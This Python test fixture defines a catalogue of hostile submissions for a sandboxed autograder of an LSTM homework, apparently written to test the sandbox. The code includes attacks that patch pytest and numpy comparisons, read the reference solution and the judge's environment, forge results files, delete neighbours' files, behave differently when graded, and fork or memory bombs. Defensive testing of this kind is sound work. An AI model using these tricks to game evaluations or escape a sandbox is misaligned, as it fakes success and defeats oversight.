"""Attacks as submissions in the format of CS231n, each with what its honest part deserves.

The numbers are those of the list of attacks in docs/sandbox.md. CANARY stands for a folder that
holds a neighbour's submission and a file of results, PORT for a port on which somebody listens,
JUDGE for the judge's process.

Nothing here harms the machine: what grows is bounded by the limits that the tests set.
"""

from dataclasses import dataclass, field

from class_of_submissions import NOTHING, PLAIN

LOAD = 5.0  # points: what an empty skeleton deserves, since it can be imported
PROCESS = frozenset({"process"})
NOWHERE: frozenset[str] = frozenset()


@dataclass(frozen=True)
class Attack:
    """A hostile submission.

    Attributes:
        number: of the attack in the list.
        name: what it tries.
        source: its code.
        worth: the points that its honest part deserves.
        wins: the levels of sandbox at which it scores more than its worth.
        harms: the levels at which it reaches a neighbour's file, the results, or the network.
        files: what lies beside it.
        load: seconds that importing it may take.
        needs: a package without which it cannot be tried.
    """

    number: int
    name: str
    source: str
    worth: float = LOAD
    wins: frozenset[str] = NOWHERE
    harms: frozenset[str] = NOWHERE
    files: dict[str, str] = field(default_factory=dict)
    load: float = 20.0
    needs: str = "numpy"


def quietly(code, rest=NOTHING):
    """The code, whatever it raises, and then the rest."""
    body = "".join(f"    {line}\n" for line in code.strip().splitlines())
    return f"try:\n{body}except BaseException:\n    pass\n\n{rest}"


def inside(function, code, rest=PLAIN):
    """The rest, with code at the beginning of one of its functions."""
    head = next(line for line in rest.splitlines() if line.startswith(f"def {function}("))
    body = "".join(f"    {line}\n" for line in code.strip().splitlines())
    return rest.replace(head + "\n", f"{head}\n{body}")


# Where the kit is, as far as the frames tell; then the reference by any path that leads there.
FIND = """import os, sys
def kit():
    frame, names = sys._getframe(), set()
    while frame is not None:
        names.add(frame.f_code.co_filename)
        frame = frame.f_back
    folders = [os.path.dirname(name) for name in names if name.endswith("host.py")]
    up = os.path.dirname(os.path.dirname(folders[0]))
    return [up, os.path.join(os.path.dirname(up), "reference"), CANARY]
sys.path[:0] = kit()
"""
DELEGATE = """
import numpy as np
def lstm_step_forward(x, h, c, Wx, Wh, b):
    order = lambda a: np.concatenate([np.split(a, 4, -1)[k] for k in (0, 1, 3, 2)], -1)
    h, c, kept = step(x, h, c, order(Wx), order(Wh), order(b))
    return h, c, kept
def lstm_forward(x, h0, Wx, Wh, b):
    h, c, ys = h0, np.zeros_like(h0), []
    for t in range(x.shape[1]):
        h, c, _ = lstm_step_forward(x[:, t], h, c, Wx, Wh, b)
        ys.append(h)
    return np.stack(ys, 1), None
def lstm_step_backward(dh, dc, cache): raise NotImplementedError
def lstm_backward(dh, cache): raise NotImplementedError
"""
REFERENCE = (
    FIND
    + """
from lstm_reference.cells import cell
names = [name for name in dir(cell) if "step" in name or "forward" in name]
def step(x, h, c, W, U, b):
    z = x @ W + h @ U + b
    import numpy as np
    from lstm_reference.cells.lstm import LSTM
    layer = LSTM(x.shape[1], h.shape[1])
    layer.params = {"W": W, "U": U, "b": b}
    y, (h, c) = layer.forward(x[:, None], (h, c))
    return h, c, None
"""
    + DELEGATE
)
TORCH = (
    """
import torch
def step(x, h, c, W, U, b):
    cell = torch.nn.LSTMCell(x.shape[1], h.shape[1], dtype=torch.float64)
    with torch.no_grad():
        cell.weight_ih.copy_(torch.tensor(W.T)); cell.weight_hh.copy_(torch.tensor(U.T))
        cell.bias_ih.copy_(torch.tensor(b)); cell.bias_hh.zero_()
        h, c = cell(torch.tensor(x), (torch.tensor(h), torch.tensor(c)))
    return h.numpy().astype(x.dtype), c.numpy().astype(x.dtype), None
"""
    + DELEGATE
)
NEIGHBOUR = "exec(open(CANARY + '/neighbour.py').read())\n"
DAEMON = """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(0.3)
        open(CANARY + '/results.json', 'w').write('{"score": 100}')
        time.sleep(60)
    os._exit(0)
"""
HOST = """import gc
for one in gc.get_objects():
    if type(one).__name__ == "Host":
        host = one
import sys
class Full:
    not_offered = dict.fromkeys(["backward", "stateful", "initial_c", "final_c", "initial_h",
                                 "final_h", "dx", "dh0", "dc0", "bias", "float64"], "no")
    def __init__(self, *a): self.params = {}
    def forward(self, x, state=None): return x
host._adapted = Full
"""
CHANNEL = """
import os, struct
for descriptor in range(3, 64):
    try:
        os.write(descriptor, CONTENT)
    except OSError:
        pass
"""
SERVED = """
import json, os, struct
text = json.dumps({"ok": {"name": "", "adapter": "native", "form": "", "declared": None,
    "attributes": {}, "compiles": False, "composes": [],
    "not_offered": dict.fromkeys(["backward", "stateful", "initial_h", "initial_c", "final_h",
                                  "final_c", "step", "bias", "float64", "dx"], "no"),
    "methods": ["forward"], "signatures": {}}}).encode()
for descriptor in range(3, 64):
    try:
        while True:
            os.write(descriptor, struct.pack("<QQ", len(text), 0) + text)
            if not os.read(descriptor, 1 << 20): break
    except OSError:
        pass
"""
ALWAYS_EQUAL = """
class Equal:
    def __eq__(self, other): return True
    def __array__(self, *a, **k): return np.zeros(3)
    shape = property(lambda self: Equal())
    dtype = ndim = shape
def lstm_forward(x, h0, Wx, Wh, b): return Equal(), None
def lstm_step_forward(x, h, c, Wx, Wh, b): return Equal(), Equal(), None
"""
SUBCLASS = """
class Right(np.ndarray):
    def __eq__(self, other): return np.ones(self.shape, bool)
    def __sub__(self, other): return np.zeros(self.shape)
    __rsub__ = __sub__
    def __array_ufunc__(self, *a, **k): return np.zeros(self.shape)
def lstm_forward(x, h0, Wx, Wh, b):
    return np.zeros((*x.shape[:2], h0.shape[1])).view(Right), None
"""
MASKED = """
def lstm_forward(x, h0, Wx, Wh, b):
    y = np.zeros((*x.shape[:2], h0.shape[1]))
    return np.ma.masked_array(y, mask=True), None
"""
BROADCAST = "\ndef lstm_forward(x, h0, Wx, Wh, b): return np.float64(np.nan), None\n"
RIGHT_IF_SMALL = inside(
    "lstm_step_forward", "if prev_h.shape[1] > 8 or x.shape[0] > 8: return prev_h, prev_c, None"
)
RIGHT_AT_FIRST = inside(
    "lstm_step_forward",
    "COUNT.append(1)\nif len(COUNT) > 400: return prev_h, prev_c, None",
    PLAIN.replace("import numpy as np", "import numpy as np\nCOUNT = []"),
)
RIGHT_IF_WATCHED = inside(
    "lstm_step_forward",
    "import sys\nif 'lstm_checks' in sys.modules: return x, x, None\n"
    "if sys.argv == ['lstm']: return 0 * prev_h, 0 * prev_c, None",
)

ZEROS = """
def lstm_step_forward(x, h, c, Wx, Wh, b): return 0 * h, 0 * c, (x, h, Wx, b)
def lstm_forward(x, h0, Wx, Wh, b):
    return np.zeros((*x.shape[:2], h0.shape[1]), x.dtype), (x, h0, Wx, Wh, b)
"""
ZERO_GRADIENTS = """
def lstm_step_backward(dh, dc, cache):
    x, h, c, Wx, Wh = cache[:5]
    return 0 * x, 0 * h, 0 * c, 0 * Wx, 0 * Wh, 0 * Wx[0]
def lstm_backward(dh, cache):
    x, h, c, Wx, Wh = cache[0][:5]
    dx = np.zeros((*dh.shape[:2], x.shape[1]), dh.dtype)
    return dx, 0 * h, 0 * Wx, 0 * Wh, 0 * Wx[0]
"""
FORGETS = PLAIN.replace("f * prev_c + i * g", "prev_c + i * g")

ATTACKS = [
    Attack(1, "exit on import", "import os\nos._exit(0)\n" + NOTHING, 0.0),
    Attack(1, "exit in forward", inside("lstm_forward", "import os\nos._exit(0)", NOTHING)),
    Attack(2, "skip in forward", inside("lstm_forward", "import pytest\npytest.skip()", NOTHING)),
    Attack(3, "atexit", quietly("import atexit, os\natexit.register(lambda: os._exit(0))")),
    Attack(4, "patches pytest", quietly(
        "import pytest, _pytest.reports\n_pytest.reports.TestReport.failed = False")),
    Attack(5, "conftest beside it", NOTHING, files={
        "conftest.py": "import pytest\npytest.skip()", "pytest.ini": "[pytest]\naddopts = --co"}),
    Attack(6, "patches comparisons", quietly(
        "import math, numpy as np\nnp.allclose = np.array_equal = lambda *a, **k: True\n"
        "np.testing.assert_allclose = math.isclose = lambda *a, **k: True")),
    Attack(7, "traces, threads, callbacks", quietly(
        "import gc, sys, threading, signal\nsys.settrace(lambda *a: None)\n"
        "gc.callbacks.append(lambda *a: None)\nsignal.signal(signal.SIGTERM, signal.SIG_IGN)\n"
        "threading.Thread(target=lambda: [None for _ in iter(int, 1)], daemon=True).start()")),
    Attack(8, "patches Hypothesis", quietly("import hypothesis\nhypothesis.given = None")),
    Attack(9, "equal to everything", NOTHING + ALWAYS_EQUAL),
    Attack(10, "a subclass that compares equal", NOTHING + SUBCLASS),
    Attack(10, "everything masked", NOTHING + MASKED, 10.0),
    Attack(11, "a NaN that broadcasts", NOTHING + BROADCAST),
    Attack(12, "a view that changes later", inside(
        "lstm_backward", "LAST[0][:] = 7", PLAIN.replace(
            "    return np.stack(outputs, axis=1), caches",
            "    y = np.stack(outputs, axis=1)\n    LAST[:] = [y]\n    return y, caches",
        ).replace("import numpy as np", "import numpy as np\nLAST = []")), 99.9),
    Attack(13, "writes into its inputs", inside(
        "lstm_forward", "x *= 0\nWx *= 0\nWh *= 0\nb *= 0\nh0 *= 0"), 99.9),
    Attack(14, "an exception that prints code", inside(
        "lstm_forward", 'class E(Exception):\n    def __str__(self): return "\'\'\'\\"\\"\\"\\n'
        'import os; os._exit(0)\\n\\x1b[2J<script>"\nraise E()', NOTHING)),
    Attack(15, "walks frames and objects", quietly(
        "import gc, sys\nsys.exit([o for o in gc.get_objects() if 'expected' in repr(type(o))])")),
    Attack(15, "the judge's memory", quietly(
        "open('/proc/JUDGE/mem', 'r+b').read(1)\nopen(CANARY + '/reached', 'w').write('x')")),
    Attack(16, "reads the reference", quietly(
        FIND + "text = open(kit()[1] + '/lstm_reference/cells/cell.py').read()\n"
        "open(CANARY + '/reached', 'w').write(text)"), harms=PROCESS),
    Attack(16, "reads the judge's environment", quietly(
        "text = open('/proc/JUDGE/environ').read()\n"
        "open(CANARY + '/reached', 'w').write(text)")),
    Attack(17, "imports the reference", REFERENCE, 0.0, wins=PROCESS),
    Attack(17, "patches the host", quietly(HOST)),
    Attack(18, "imports PyTorch", TORCH, 0.0, wins=PROCESS, needs="torch"),
    Attack(18, "runs a neighbour's file", NEIGHBOUR, 0.0, wins=PROCESS),
    Attack(19, "right if small", RIGHT_IF_SMALL, 99.9),
    Attack(19, "zeros of the right shapes", NOTHING + ZEROS, 30.0),
    Attack(19, "one mistake, and zero gradients", FORGETS + ZERO_GRADIENTS, 60.0),
    Attack(20, "right at first", RIGHT_AT_FIRST, 99.9),
    Attack(20, "right unless it is graded", RIGHT_IF_WATCHED, 30.0),
    Attack(21, "sends by network", quietly(
        "import socket\ns = socket.create_connection(('127.0.0.1', PORT), 1)\ns.send(b'x')"),
        harms=PROCESS),
    Attack(22, "writes the results", quietly(
        "open(CANARY + '/results.json', 'w').write('100')"), harms=PROCESS),
    Attack(22, "deletes a neighbour's file", quietly(
        "import os\nos.unlink(CANARY + '/neighbour.py')"), harms=PROCESS),
    Attack(22, "takes a neighbour's rights", quietly(
        "import os\nos.chmod(CANARY + '/neighbour.py', 0)"), harms=PROCESS),
    Attack(23, "a daemon that writes later", quietly(DAEMON)),
    Attack(24, "writes pass into every descriptor", quietly(
        CHANNEL.replace("CONTENT", "b'pass'")), 0.0),
    Attack(24, "serves the channel itself", quietly(SERVED)),
    Attack(25, "prints a report", "print('\\x1b[2J100.0  passed <b>=1+1</b>' * 100)\n" + NOTHING),
    Attack(26, "returns a pickle", NOTHING + (
        "\nclass P:\n    def __reduce__(self): return (exec, ('raise SystemExit',))\n"
        "def lstm_forward(x, h0, Wx, Wh, b): return np.array([P()], object), P()\n")),
    Attack(27, "declares a huge reply", quietly(
        CHANNEL.replace("CONTENT", "struct.pack('<QQ', 1 << 60, 1 << 60)")), 0.0),
    Attack(27, "returns a huge view", NOTHING + (
        "\ndef lstm_forward(x, h0, Wx, Wh, b):\n"
        "    return np.broadcast_to(0.0, (1 << 20, 1 << 20, 64)), None\n")),
    Attack(29, "a numpy beside it", NOTHING, files={
        "numpy.py": "raise SystemExit", "sitecustomize.py": "raise SystemExit",
        "json.py": "raise SystemExit"}),
    Attack(30, "an endless loop on import", "while True:\n    pass\n", 0.0, load=1.5),
    Attack(30, "a C call that holds the lock", "import re\nre.match('(a*)*b', 'a' * 60)\n",
        0.0, load=1.5),
    Attack(30, "sleeps in backward", inside("lstm_backward", "import time\ntime.sleep(1e6)"), 75.0),
    Attack(31, "memory", "kept = []\nwhile True:\n    kept.append(bytearray(1 << 24))\n", 0.0),
    Attack(31, "shared memory", "import mmap\nkept = [mmap.mmap(-1, 1 << 36)]\n" + NOTHING, 0.0),
    Attack(31, "disk", "k = 0\nwhile True:\n    k += 1\n"
        "    with open(f'/tmp/lstm_bomb_{k}', 'wb') as f:\n        f.write(bytes(1 << 22))\n"
        "    if k > 40: break\n" + NOTHING, 0.0, wins=PROCESS),
    Attack(32, "forks", quietly("import os\nwhile True:\n    if os.fork() == 0: os._exit(0)")),
    Attack(32, "threads", quietly(
        "import threading, time\nthreading.stack_size(32768)\nwhile True:\n"
        "    threading.Thread(target=time.sleep, args=(60,), daemon=True).start()")),
    Attack(33, "kills everything", quietly("import os\nos.kill(-1, 0)\nos.kill(JUDGE, 0)\n"
        "open(CANARY + '/reached', 'w').write('x')"), harms=PROCESS),
    Attack(34, "a daemon on an abstract socket", quietly(
        "import socket\ns = socket.socket(socket.AF_UNIX)\ns.bind('\\0lstm-redteam')\n"
        "open(CANARY + '/reached', 'w').write('x')"), harms=PROCESS),
    Attack(35, "a flood", "while True:\n    print('x' * 100000)\n", 0.0),
    Attack(36, "segfault", "import ctypes\nctypes.string_at(0)\n" + NOTHING, 0.0),
    Attack(36, "stack overflow", "import sys\nsys.setrecursionlimit(1 << 30)\n"
        "f = lambda: f()\nf()\n" + NOTHING, 0.0, load=1.5),
]  # fmt: skip
